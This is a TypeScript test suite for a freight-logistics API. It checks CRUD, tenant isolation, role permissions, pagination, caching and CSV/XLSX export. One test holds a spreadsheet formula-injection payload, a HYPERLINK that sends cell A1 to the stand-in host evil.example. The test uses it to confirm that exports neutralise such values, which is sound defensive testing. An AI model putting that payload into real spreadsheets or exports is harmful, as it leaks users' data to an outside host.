/** One suite over every descriptor: CRUD, validation, tenant isolation, permissions, export. */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { RESOURCES } from '#shared/resources/registry.ts';
import { BUILTIN_ROLES } from '#shared/resources/permissions.ts';
import type { FastifyInstance } from 'fastify';
import pg from 'pg';
import { buildApp } from '../../app.ts';
import { createClient, createTestApp, latestCode, testConfig, type TestApp } from '../../test/harness.ts';
import { RESOURCE_FIXTURES, type Refs } from '../../test/resource-fixtures.ts';
import { getTableName } from 'drizzle-orm';
import { tableOf } from './tables.ts';

let t: TestApp;
type Client = ReturnType<typeof createClient> & { orgId?: string; email: string };
let a: Client;
let b: Client;
let staffOfA: Client;

async function user(): Promise<Client> {
  const c = createClient(t.app);
  const email = `res-${Math.random().toString(36).slice(2)}@example.com`;
  await c.post('/api/auth/register', { name: 'Res User', email, password: 'Harbour-2026' });
  await c.post('/api/auth/verify-otp', { email, otp: await latestCode(t.database, email) });
  return Object.assign(c, { email });
}
async function owner(name: string): Promise<Client> {
  const c = await user();
  const res = await c.post('/api/organisations', { name, types: ['forwarder'], country: 'GB', address_line1: '1 Dock', city: 'Hull' });
  return Object.assign(c, { orgId: res.data.data.id as string });
}

beforeAll(async () => {
  t = await createTestApp();
  a = await owner('Alpha Freight');
  b = await owner('Beta Logistics');
  staffOfA = await user();
  await t.database.query('update users set organisation_id = $1 where email = $2', [a.orgId, staffOfA.email]);
  await t.database.query(
    `insert into organisation_members (organisation_id, user_id, role_id)
     select $1, u.id, r.id from users u, roles r where u.email = $2 and r.organisation_id = $1 and r.builtin = 'staff'`,
    [a.orgId, staffOfA.email],
  );
});
afterAll(() => t.close());

describe.each(RESOURCES.map((d) => [d.name, d] as const))('%s', (name, d) => {
  const f = RESOURCE_FIXTURES[name];
  const path = `/api/${name}`;
  let refs: Refs = {};
  const fx = { ...f, valid: (i: number) => f.valid(i, refs) };
  beforeAll(async () => {
    refs = f.prepare ? await f.prepare((p, body) => a.post(p, body), (await a.get('/api/user')).data.data.id) : {};
  });

  it('has fixtures and a table', () => {
    expect(fx).toBeDefined();
  });

  it('creates, reads, lists, updates and deletes, writing an audit trail', async () => {
    const created = await a.post(path, fx.valid(1));
    expect(created.statusCode, JSON.stringify(created.data)).toBe(201);
    const id = created.data.data.id;
    expect(created.data.data).not.toHaveProperty('organisation_id');
    expect((await a.get(`${path}/${id}`)).data.data.id).toBe(id);
    const list = await a.get(`${path}?per_page=100`);
    expect(list.data.data.map((r: { id: string }) => r.id)).toContain(id);
    expect(list.data.meta).toMatchObject({ page: 1, per_page: 100 });
    const changed = await a.request('PATCH', `${path}/${id}`, fx.change);
    expect(changed.statusCode, JSON.stringify(changed.data)).toBe(200);
    for (const [k, v] of Object.entries(fx.change)) expect(changed.data.data[k]).toEqual(v);
    expect((await a.request('PATCH', `${path}/${id}`, {})).statusCode).toBe(422);
    expect((await a.delete(`${path}/${id}`)).statusCode).toBe(204);
    expect((await a.get(`${path}/${id}`)).statusCode).toBe(404);
    const trail = await t.database.query<{ action: string }>('select action from audit_events where entity = $1 and entity_id = $2 order by created_at, id', [name, id]);
    expect(trail.map((r) => r.action)).toEqual(['create', 'update', 'delete']);
  });

  it('answers 422 with field messages and stores nothing', async () => {
    const before = (await a.get(path)).data.meta.total;
    const res = await a.post(path, fx.invalid);
    expect(res.statusCode).toBe(422);
    expect(Object.keys(res.data.error.fields).sort()).toEqual(expect.arrayContaining(fx.invalidFields));
    for (const f of fx.invalidFields) expect(res.data.error.fields[f]).toMatch(/\w/);
    expect((await a.get(path)).data.meta.total).toBe(before);
  });

  it('never shows or changes another organisation’s record', async () => {
    const { data } = await a.post(path, fx.valid(2));
    const id = data.data.id;
    expect((await b.get(`${path}/${id}`)).statusCode).toBe(404);
    expect((await b.request('PATCH', `${path}/${id}`, fx.change)).statusCode).toBe(404);
    expect((await b.delete(`${path}/${id}`)).statusCode).toBe(404);
    expect((await b.get(`${path}?per_page=100`)).data.data.map((r: { id: string }) => r.id)).not.toContain(id);
    expect((await b.get(`${path}/export?format=csv`)).body).not.toContain(id);
    expect((await a.get(`${path}/${id}`)).statusCode).toBe(200);
  });

  it('checks the role’s permissions on the server', async () => {
    // The Staff role reads every area but the sensitive ones (bank details).
    const readable = BUILTIN_ROLES.staff.permissions.some((p) => p === `${d.permissionModule}.view`);
    expect((await staffOfA.get(path)).statusCode).toBe(readable ? 200 : 403);
    // Staff also writes in the working areas (crm, quotes …), never deletes or exports there.
    const creatable = BUILTIN_ROLES.staff.permissions.some((p) => p === `${d.permissionModule}.create`);
    const attempt = await staffOfA.post(path, fx.valid(3));
    expect(attempt.statusCode).toBe(creatable ? 201 : 403);
    if (!creatable) expect(attempt.data.error.code).toBe('forbidden');
    const { data } = await a.post(path, fx.valid(4));
    expect((await staffOfA.delete(`${path}/${data.data.id}`)).statusCode).toBe(403);
    expect((await staffOfA.get(`${path}/export`)).statusCode).toBe(403);
    expect((await createClient(t.app).get(path)).statusCode).toBe(401);
  });

  it('exports exactly what the list shows, as CSV and XLSX', async () => {
    for (let i = 10; i < 14; i++) expect((await a.post(path, fx.valid(i))).statusCode).toBe(201);
    const list = (await a.get(`${path}?per_page=100&sort=-created_at`)).data;
    const csv = await a.get(`${path}/export?format=csv&sort=-created_at`);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const lines = csv.body.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines[0].split(',').slice(0, 2)).toEqual(['id', d.fields[0].name]);
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(list.data.map((r: { id: string }) => r.id));
    const xlsx = await a.get(`${path}/export?format=xlsx`);
    expect(xlsx.headers['content-type']).toMatch(/spreadsheetml/);
    expect(xlsx.rawPayload.subarray(0, 2).toString()).toBe('PK');
  });

  it('pages by number and by cursor, sorted, and searches', async () => {
    const all = (await a.get(`${path}?per_page=100&sort=${d.defaultSort}`)).data;
    const first = (await a.get(`${path}?per_page=2&sort=${d.defaultSort}`)).data;
    expect(first.meta.total).toBe(all.meta.total);
    expect(first.data.map((r: { id: string }) => r.id)).toEqual(all.data.slice(0, 2).map((r: { id: string }) => r.id));
    const second = (await a.get(`${path}?per_page=2&page=2&sort=${d.defaultSort}`)).data;
    const byCursor = (await a.get(`${path}?per_page=2&sort=${d.defaultSort}&cursor=${first.meta.next_cursor}`)).data;
    expect(byCursor.data.map((r: { id: string }) => r.id)).toEqual(second.data.map((r: { id: string }) => r.id));
    expect((await a.get(`${path}?sort=nope`)).statusCode).toBe(422);
    // Cursors that are not the list's own are refused before they reach PostgreSQL (they answered 500).
    const cursor = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
    const id = all.data[0].id;
    for (const bad of [[{ a: 1 }, id], ['x', 'd{'], [true, id], ['yesterday', id]]) {
      expect((await a.get(`${path}?sort=created_at&cursor=${cursor(bad)}`)).statusCode, JSON.stringify(bad)).toBe(422);
    }
    expect((await a.get(`${path}?filter[nope]=1`)).statusCode).toBe(422);
    expect((await a.get(`${path}?per_page=101`)).statusCode).toBe(422);
    const sample = all.data[0][d.searchable[0]] as string;
    const found = (await a.get(`${path}?q=${encodeURIComponent(sample.slice(0, 6))}`)).data;
    expect(found.data.map((r: { id: string }) => r.id)).toContain(all.data[0].id);
  });
});

describe('specific resource rules', () => {
  it('refuses duplicates of unique fields with 409', async () => {
    expect((await a.post('/api/charge-codes', RESOURCE_FIXTURES['charge-codes'].valid(99, {}))).statusCode).toBe(201);
    const dup = await a.post('/api/charge-codes', RESOURCE_FIXTURES['charge-codes'].valid(99, {}));
    expect(dup.statusCode).toBe(409);
    expect(dup.data.error.fields).toHaveProperty('code');
    // The same code in another organisation is fine.
    expect((await b.post('/api/charge-codes', RESOURCE_FIXTURES['charge-codes'].valid(99, {}))).statusCode).toBe(201);
  });

  it('refers only to the own organisation’s records, and refuses to delete what is in use', async () => {
    const tierA = (await a.post('/api/client-tiers', { name: 'Platinum', rank: 1 })).data.data.id;
    const tierB = (await b.post('/api/client-tiers', { name: 'Platinum', rank: 1 })).data.data.id;
    const foreign = await a.post('/api/partners', { ...RESOURCE_FIXTURES.partners.valid(50, {}), client_tier_id: tierB });
    expect(foreign.statusCode).toBe(422);
    expect(foreign.data.error.fields).toHaveProperty('client_tier_id');
    const partner = await a.post('/api/partners', { ...RESOURCE_FIXTURES.partners.valid(51, {}), client_tier_id: tierA });
    expect(partner.statusCode).toBe(201);
    const inUse = await a.delete(`/api/client-tiers/${tierA}`);
    expect(inUse.statusCode).toBe(409);
    expect(inUse.data.error.code).toBe('in_use');
    expect((await a.get(`/api/partners?filter[client_tier_id]=${tierA}`)).data.meta.total).toBe(1);
  });

  it('validates IBANs and sort codes', async () => {
    const ok = await a.post('/api/bank-details', { account_name: 'Northwind EUR', bank_name: 'ING', iban: 'NL91 ABNA 0417 1643 00', currency: 'EUR' });
    expect(ok.statusCode).toBe(201);
    expect(ok.data.data.iban).toBe('NL91ABNA0417164300');
    const withSort = await a.post('/api/bank-details', RESOURCE_FIXTURES['bank-details'].valid(77, {}));
    expect(withSort.data.data.sort_code).toBe('60-16-13');
    expect((await a.post('/api/bank-details', { account_name: 'X', bank_name: 'Y', iban: 'NL91ABNA0417164301', currency: 'EUR' })).statusCode).toBe(422);
  });
});

describe('data leaving the product (issue 8, finding 5)', () => {
  it('exports text that a spreadsheet would run as a formula as text, in CSV and XLSX', async () => {
    const evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const res = await a.post('/api/charge-codes', { code: 'XSS1', name: evil, category: 'documentation', basis: 'per_bl', default_currency: 'GBP', description: '@SUM(1+1)' });
    expect(res.statusCode).toBe(201);
    const csv = (await a.get('/api/charge-codes/export?format=csv&q=XSS1')).body;
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(csv).toContain(`'@SUM(1+1)`);
    const xlsx = await a.get('/api/charge-codes/export?format=xlsx&q=XSS1');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    // XLSX: the same text, exactly, in text cells (no formula, no apostrophe added to the data).
    const values = book.worksheets[0].getRow(2).values as unknown[];
    expect(values).toContain(evil);
    expect(values).toContain('@SUM(1+1)');
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });

  it('keeps IBANs and account numbers masked in the audit trail', async () => {
    const res = await a.post('/api/bank-details', { account_name: 'Audit GBP', bank_name: 'Barclays', iban: 'GB29 NWBK 6016 1331 9268 19', sort_code: '601613', account_number: '31926819', currency: 'GBP' });
    expect(res.statusCode).toBe(201);
    await a.request('PATCH', `/api/bank-details/${res.data.data.id}`, { iban: 'GB82 WEST 1234 5698 7654 32' });
    const rows = await t.database.query<{ changes: Record<string, unknown> }>('select changes from audit_events where entity_id = $1 order by created_at, id', [res.data.data.id]);
    expect(rows.map((r) => r.changes.iban)).toEqual(['GB29 **** 6819', 'GB82 **** 5432']);
    expect(rows[0].changes.account_number).toBe('****');
    expect(JSON.stringify(rows)).not.toMatch(/NWBK|WEST|31926819/);
    expect((await a.get(`/api/bank-details/${res.data.data.id}`)).data.data.iban).toBe('GB82WEST12345698765432');
  });
});

describe('counting large lists', () => {
  it('counts up to a thousand matches (a search up to 200) exactly and says when there are more, with the pages still right', async () => {
    const c = await owner('Delta Lines');
    await t.database.query(
      `insert into tasks (organisation_id, id, title, status, priority)
       select $1, gen_random_uuid(), 'Bulk task ' || lpad(g::text, 4, '0'), 'todo', 'normal' from generate_series(1, 1200) g`,
      [c.orgId],
    );
    const all = (await c.get('/api/tasks?per_page=25&sort=title')).data;
    expect(all.meta).toMatchObject({ total: 1000, total_exact: false });
    const some = (await c.get('/api/tasks?per_page=25&q=Bulk%20task%2001')).data;
    expect(some.meta).toMatchObject({ total: 100, total_exact: true });
    const page = (await c.get('/api/tasks?per_page=25&sort=title&page=45')).data;
    expect(page.data.map((r: { title: string }) => r.title)).toEqual(Array.from({ length: 25 }, (_, i) => `Bulk task ${String(1101 + i).padStart(4, '0')}`));
    // The last page is not full: it tells the exact total (1,200) without a count; a page past the end counts.
    expect((await c.get('/api/tasks?per_page=35&sort=title&page=35')).data.meta).toMatchObject({ total: 1200, total_exact: true });
    expect((await c.get('/api/tasks?per_page=30&sort=title&page=40')).data.meta).toMatchObject({ total: 1000, total_exact: false });
    const past = (await c.get('/api/tasks?per_page=25&sort=title&page=60')).data;
    expect(past.data).toEqual([]);
    expect(past.meta).toMatchObject({ total: 1000, total_exact: false });
    // A search counts up to 200: testing every searchable field of each row costs more than an index count.
    const broad = (await c.get('/api/tasks?per_page=25&q=bulk&sort=title&page=2')).data;
    expect(broad.meta).toMatchObject({ total: 200, total_exact: false });
    expect(broad.data[0].title).toBe('Bulk task 0026');
    const few = (await c.get('/api/tasks?per_page=25&q=Bulk%20task%20100')).data;
    expect(few.meta).toMatchObject({ total: 10, total_exact: true });
  });
});

describe('lists answered from memory', () => {
  it('has a change trigger on every record table (migration 0008), or its lists would go stale', async () => {
    const tables = RESOURCES.map((d) => getTableName(tableOf(d.name))).sort();
    const rows = await t.database.query<{ table: string }>(
      `select c.relname as table from pg_trigger g join pg_class c on c.oid = g.tgrelid join pg_proc p on p.oid = g.tgfoid
        where p.proname = 'fyn_table_changed' and not g.tgisinternal`,
    );
    expect(rows.map((r) => r.table).sort()).toEqual(tables);
  });

  it('searches each record table by the lower-cased text of exactly its descriptor’s searchable fields (migration 0009)', async () => {
    const rows = await t.database.query<{ table: string; expression: string }>(
      `select table_name as table, generation_expression as expression from information_schema.columns where column_name = 'search_text'`,
    );
    const byTable = new Map(rows.map((r) => [r.table, r.expression]));
    for (const d of RESOURCES) {
      const expression = byTable.get(getTableName(tableOf(d.name))) ?? '';
      const fields = [...expression.matchAll(/COALESCE\(\(?"?(\w+)"?/gi)].map((m) => m[1]);
      expect(fields, d.name).toEqual([...d.searchable]);
    }
    // A copy of other fields, never answered.
    const listed = (await a.get('/api/departments?per_page=5')).data.data as Record<string, unknown>[];
    expect(listed.length).toBeGreaterThan(0);
    for (const row of listed) expect(row).not.toHaveProperty('search_text');
    expect((await a.get(`/api/departments/${listed[0].id}`)).data.data).not.toHaveProperty('search_text');
  });

  it('serves a page again without the database, and never a page older than the last write, whoever wrote', async () => {
    const c = await owner('Gamma Cargo');
    const titles = async () => ((await c.get('/api/departments?per_page=100&sort=name')).data.data as { name: string }[]).map((r) => r.name);
    const before = await titles();
    // A repeated read runs no statement of the database's (on PostgreSQL only the listening connection's `select 1`).
    const statements = t.database.pglite ? vi.spyOn(t.database.pglite, 'query') : vi.spyOn(pg.Pool.prototype, 'query');
    expect(await titles()).toEqual(before);
    expect(statements).not.toHaveBeenCalled();
    statements.mockRestore();
    // Through the API …
    expect((await c.post('/api/departments', { name: 'Air Export' })).statusCode).toBe(201);
    expect(await titles()).toContain('Air Export');
    // … by SQL from outside the resource layer …
    await t.database.query(`update departments set name = 'Sea Export' where organisation_id = $1 and name = 'Air Export'`, [c.orgId]);
    expect(await titles()).toEqual(expect.arrayContaining(['Sea Export']));
    expect(await titles()).not.toContain('Air Export');
    // … inside a transaction that rolls back (nothing changed, nothing to see) …
    await t.database.db.transaction(async (tx) => {
      await tx.execute(`insert into departments (organisation_id, id, name) values ('${c.orgId}', gen_random_uuid(), 'Ghost')`);
      tx.rollback();
    }).catch(() => {});
    expect(await titles()).not.toContain('Ghost');
    // … and by a delete: the list is the database's.
    await t.database.query(`delete from departments where organisation_id = $1 and name = 'Sea Export'`, [c.orgId]);
    expect(await titles()).toEqual(before);
    // Another organisation never shares a page.
    expect(((await b.get('/api/departments?per_page=100&sort=name')).data.data as { name: string }[]).map((r) => r.name)).not.toContain('Sea Export');
  });
});

describe('lists answered from memory on two app nodes of one database', () => {
  let second: FastifyInstance;
  beforeAll(async () => {
    second = await buildApp(testConfig(), { database: t.database });
    await second.ready();
  });
  afterAll(() => second.close());

  it('shows on one node every write the other has acknowledged, at once', async () => {
    const c = await owner('Delta Freight');
    // The same browser session, its requests going to either node (as behind a round-robin proxy).
    const other = createClient(second);
    for (const [k, v] of c.jar) other.jar.set(k, v);
    const names = async (client: Client | ReturnType<typeof createClient>) =>
      ((await client.get('/api/departments?per_page=100&sort=name')).data.data as { name: string }[]).map((r) => r.name);
    expect(await names(other)).toEqual(await names(c));
    for (let i = 0; i < 15; i++) {
      // Each node has the list in memory; a write through one must reach the other's next read.
      await names(other);
      expect((await c.post('/api/departments', { name: `Desk ${i}` })).statusCode).toBe(201);
      expect(await names(other)).toContain(`Desk ${i}`);
      expect((await other.request('PATCH', `/api/departments/${await idOf(other, `Desk ${i}`)}`, { name: `Counter ${i}` })).statusCode).toBe(200);
      expect(await names(c)).toContain(`Counter ${i}`);
      expect(await names(c)).not.toContain(`Desk ${i}`);
    }
    // A write from outside the app (a script on the database) reaches both.
    await t.database.query(`delete from departments where organisation_id = $1 and name like 'Counter %'`, [c.orgId]);
    expect((await names(c)).filter((n) => n.startsWith('Counter'))).toEqual([]);
    expect((await names(other)).filter((n) => n.startsWith('Counter'))).toEqual([]);
  });

  // PostgreSQL only: the embedded database's notices need no connection.
  it.runIf(Boolean(process.env.DATABASE_URL))('reads from the database while a node cannot listen, and uses memory again once it can', async () => {
    const c = await owner('Epsilon Shipping');
    const names = async () => ((await c.get('/api/departments?per_page=100&sort=name')).data.data as { name: string }[]).map((r) => r.name);
    await names();
    // The listening connections (both nodes') go down; a write lands meanwhile, its notice lost.
    const killed = await t.database.query<{ n: number }>(
      `select count(pg_terminate_backend(pid))::int as n from pg_stat_activity
        where datname = current_database() and pid <> pg_backend_pid() and backend_type = 'client backend' and query in ('select 1', 'listen "fyn_table_changed"')`,
    );
    expect(killed[0].n).toBeGreaterThan(0);
    await t.database.query(`insert into departments (organisation_id, id, name) values ($1, gen_random_uuid(), 'Night Desk')`, [c.orgId]);
    expect(await names()).toContain('Night Desk');
    // Back within a few seconds (the listener tries again after 1 s), with nothing stale kept from before:
    // once it is, a page read again comes from memory.
    await vi.waitFor(async () => {
      await names();
      const statements = vi.spyOn(pg.Pool.prototype, 'query');
      try {
        await names();
        expect(statements).not.toHaveBeenCalled();
      } finally {
        statements.mockRestore();
      }
    }, { timeout: 10_000, interval: 200 });
    expect(await names()).toContain('Night Desk');
  });
});

async function idOf(client: ReturnType<typeof createClient>, name: string): Promise<string> {
  const rows = (await client.get(`/api/departments?per_page=100&q=${encodeURIComponent(name)}`)).data.data as { id: string; name: string }[];
  return rows.find((r) => r.name === name)!.id;
}

describe('one primary address, one base currency', () => {
  it('moves the mark instead of refusing', async () => {
    const first = (await a.post('/api/addresses', { ...RESOURCE_FIXTURES.addresses.valid(500, {}), is_primary: true })).data.data.id;
    const second = (await a.post('/api/addresses', { ...RESOURCE_FIXTURES.addresses.valid(501, {}), is_primary: true })).data.data.id;
    expect((await a.get(`/api/addresses/${first}`)).data.data.is_primary).toBe(false);
    expect((await a.get(`/api/addresses/${second}`)).data.data.is_primary).toBe(true);
    expect((await a.get('/api/addresses?filter[is_primary]=true')).data.meta.total).toBe(1);
  });
});

describe('control-centre summary', () => {
  it('counts each area’s records of the own organisation, with the defaults a new organisation gets', async () => {
    const fresh = await owner('Gamma Shipping');
    const summary = (await fresh.get('/api/control-centre/summary')).data.data;
    expect(summary['charge-codes']).toBe(18);
    expect(summary['organisation-currencies']).toBe(1);
    expect(summary.roles).toBe(3);
    expect(summary.staff).toBe(1);
    expect(summary.partners).toBe(0);
    expect(summary.rates).toBe(0);
    expect(Object.keys(summary)).toHaveLength(RESOURCES.length + 2);
    const codes = (await fresh.get('/api/charge-codes?per_page=100')).data.data.map((c: { code: string }) => c.code);
    expect(codes).toEqual(expect.arrayContaining(['OFR', 'AFR', 'BAF', 'CAF', 'THC-O', 'THC-D', 'DOC', 'CUS', 'HAU']));
  });
});
